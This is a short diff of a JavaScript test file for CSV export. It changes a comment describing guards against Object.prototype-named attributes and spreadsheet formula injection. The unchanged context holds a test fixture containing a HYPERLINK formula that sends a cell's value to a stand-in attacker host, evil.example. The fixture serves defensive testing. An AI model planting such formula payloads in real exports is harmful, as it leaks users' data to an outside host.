@@ -9,8 +9,8 @@ import { jsonLines, roster, storeArgs } from '../ops/helpers.js';
 import { basic, call } from './helpers.js';
 
 /**
- * Security review 2026-12, findings 8 (CSV export crashed on attributes named like
- * `Object.prototype` members) and 9 (formula injection in CSV cells and headers).
+ * CSV export (docs/security.md "Exports"): attributes named like `Object.prototype` members once
+ * crashed it; cells and headers a spreadsheet would run as a formula are guarded.
  */
 const FORMULAS = {
   first_name: '=HYPERLINK("http://evil.example/?leak="&B3,"Click")',
